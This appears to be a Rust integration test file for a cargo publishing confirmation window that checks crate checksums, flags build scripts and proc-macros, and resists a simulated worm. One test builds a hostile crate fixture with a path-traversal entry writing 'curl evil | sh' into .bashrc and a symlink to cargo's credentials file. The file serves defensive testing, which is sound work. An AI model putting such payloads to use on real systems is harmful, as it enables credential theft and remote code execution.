//! The window shows the truth about what is published: real `cargo package` / `cargo publish`
//! write the `.crate`, the provider re-hashes and lists it, compares it with the previous
//! version in the cargo cache, and refuses a request whose checksum does not match the file,
//! even when a person clicks Approve. What the window showed is also written to the audit
//! log, which is what these tests read.

#![cfg(target_os = "linux")]

mod support;

use std::io::Write;
use std::time::Duration;

use support::*;

const TOKEN: &str = "tok-tx-0123456789abcdef";

/// The `evidence` field of the last audit record.
fn evidence(p: &Project) -> String {
    let records = p.audit();
    let last = records.last().expect("an audit record");
    last["evidence"].as_str().unwrap_or_default().to_string()
}

/// `cargo package` with real cargo, as the publish itself would run it.
fn package(p: &Project) {
    let out = p
        .cargo(&["package", "--no-verify", "--allow-dirty"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The helper run directly by a worm (not cargo), asked to publish `name` 0.1.0 with
/// `cksum`; stdin stays open, as cargo keeps it, until the caller drops it.
fn worm_publish(
    p: &Project,
    name: &str,
    cksum: &str,
) -> (std::process::Child, std::process::ChildStdin) {
    start_plugin(
        p.provider().env("CARGO_TARGET_DIR", p.dir.join("target")),
        &p.publish_request(name, "0.1.0", cksum).to_string(),
    )
}

#[test]
fn a_release_that_adds_a_build_script_is_verified_and_flagged_against_the_cached_version() {
    let _g = gui_lock();
    let p = Project::enrolled("tx-build", TOKEN, &[]);
    // 0.0.9, packaged by real cargo, sits in the cargo cache as if it had been downloaded.
    p.manifest("0.0.9", "");
    package(&p);
    let cache = p
        .cargo_home
        .join("registry/cache/index.example-0000000000000000");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::copy(
        p.dir.join("target/package/tx-build-0.0.9.crate"),
        cache.join("tx-build-0.0.9.crate"),
    )
    .unwrap();
    // 0.1.0 slips in a build script.
    p.manifest("0.1.0", "");
    std::fs::write(p.dir.join("build.rs"), "fn main() {}\n").unwrap();

    let (status, _, err) = person_answers(p.publish(), "cargo-confirm-gui", Click::Approve);
    assert!(status.success(), "{err}");
    let e = evidence(&p);
    let file = p.dir.join("target/package/tmp-crate/tx-build-0.1.0.crate");
    assert!(
        e.starts_with(&format!(
            "crate file verified (held open by cargo): {}",
            file.display()
        )),
        "{e}"
    );
    assert!(e.contains("DANGER: build script new since 0.0.9"), "{e}");
    assert!(e.contains("since 0.0.9: +1 -0"), "{e}");
    assert!(e.contains("build script new"), "{e}");
    assert!(e.contains("note: build script build.rs"), "{e}");
}

#[test]
fn a_plain_release_has_no_flags_and_a_proc_macro_is_flagged() {
    let _g = gui_lock();
    let p = Project::enrolled("tx-plain", TOKEN, &[]);
    let (status, _, err) = person_answers(p.publish(), "cargo-confirm-gui", Click::Approve);
    assert!(status.success(), "{err}");
    let e = evidence(&p);
    assert!(
        e.starts_with("crate file verified (held open by cargo): "),
        "{e}"
    );
    assert!(!e.contains("DANGER") && !e.contains("note:"), "{e}");

    p.manifest("0.2.0", "[lib]\nproc-macro = true\n");
    let (status, _, err) = person_answers(p.publish(), "cargo-confirm-gui", Click::Approve);
    assert!(status.success(), "{err}");
    let e = evidence(&p);
    assert!(e.contains("note: proc-macro"), "{e}");
}

#[test]
fn a_checksum_that_does_not_match_the_packaged_file_cannot_be_approved_even_by_a_person() {
    let _g = gui_lock();
    let p = Project::enrolled("tx-forged", TOKEN, &[]);
    package(&p);
    // A worm asks for a publish of this very crate, with the checksum of its own upload.
    let (mut child, stdin) = worm_publish(&p, "tx-forged", &"e".repeat(64));
    let (_, g) = window_for(&mut child, "cargo-confirm-gui");
    // With its window up, the helper and its window process have denied themselves the
    // network (seccomp on every thread).
    let status = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
    assert!(status.contains("Seccomp:\t2"), "{status}");
    let window = window_process_of(child.id()).expect("the window process");
    let status = std::fs::read_to_string(format!("/proc/{window}/status")).unwrap();
    assert!(status.contains("Seccomp:\t2"), "{status}");
    wait_armed();
    // A person clicks Approve, twice: nothing happens.
    let (x, y) = approve_point(g);
    desk().human_click(x, y);
    std::thread::sleep(Duration::from_millis(800));
    desk().human_click(x, y);
    std::thread::sleep(Duration::from_millis(800));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the provider answered after an Approve click on a mismatched crate"
    );
    let (x, y) = deny_point(g);
    desk().human_click(x, y);
    // cargo keeps the pipe open until it has the answer.
    let (_, out, _) = wait_output(child, Duration::from_secs(60));
    drop(stdin);
    assert!(!out.contains(TOKEN), "{out}");
    assert!(out.contains("denied in the confirmation window"), "{out}");
    let e = evidence(&p);
    assert!(e.starts_with("CHECKSUM MISMATCH with "), "{e}");
    assert!(e.contains("/tx-forged-0.1.0.crate"), "{e}");
}

/// A hostile `.crate` whose checksum does match: the real helper lists it with bounded work,
/// shows each problem in red, and neither crashes nor hangs.
#[test]
fn a_hostile_archive_with_a_matching_checksum_is_shown_as_dangerous_not_a_crash() {
    use sha2::Digest;
    let _g = gui_lock();
    let p = Project::enrolled("tx-hostile", TOKEN, &[]);
    let mut b = tar::Builder::new(Vec::new());
    let mut add = |name: &str, ty: tar::EntryType, data: &[u8], link: &[u8]| {
        let mut h = tar::Header::new_gnu();
        // Written raw: tar::Builder refuses `..` in paths, an attacker's tool does not.
        h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        h.set_entry_type(ty);
        h.set_mode(0o644);
        h.set_size(data.len() as u64);
        h.set_cksum();
        b.append(&h, data).unwrap();
    };
    add(
        "tx-hostile-0.1.0/Cargo.toml",
        tar::EntryType::Regular,
        b"[package]\nname = \"tx-hostile\"\n",
        b"",
    );
    add(
        "tx-hostile-0.1.0/../../../home/.bashrc",
        tar::EntryType::Regular,
        b"curl evil | sh",
        b"",
    );
    add(
        "tx-hostile-0.1.0/src/lib.rs",
        tar::EntryType::Symlink,
        b"",
        b"/home/you/.cargo/credentials.toml",
    );
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&b.into_inner().unwrap()).unwrap();
    // Garbage after the archive is part of the upload, and of the hash.
    let mut bytes = gz.finish().unwrap();
    bytes.extend_from_slice(&[0xff; 4096]);
    let file = p.dir.join("target/package/tx-hostile-0.1.0.crate");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, &bytes).unwrap();
    let cksum = cargo_confirm_gui::package::hex(&sha2::Sha256::digest(&bytes));

    let (mut child, stdin) = worm_publish(&p, "tx-hostile", &cksum);
    let (_, g) = window_for(&mut child, "cargo-confirm-gui");
    wait_armed();
    let (x, y) = deny_point(g);
    desk().human_click(x, y);
    // cargo keeps the pipe open until it has the answer.
    let (status, out, err) = wait_output(child, Duration::from_secs(60));
    drop(stdin);
    assert!(status.success(), "the helper crashed: {err}");
    assert!(out.contains("denied in the confirmation window"), "{out}");
    let e = evidence(&p);
    assert!(
        e.starts_with(&format!("crate file verified: {}", file.display())),
        "{e}"
    );
    assert!(
        e.contains(
            "DANGER: tx-hostile-0.1.0/../../../home/.bashrc tries to escape the unpack directory"
        ),
        "{e}"
    );
    assert!(
        e.contains("DANGER: src/lib.rs is a link to /home/you/.cargo/credentials.toml"),
        "{e}"
    );
}
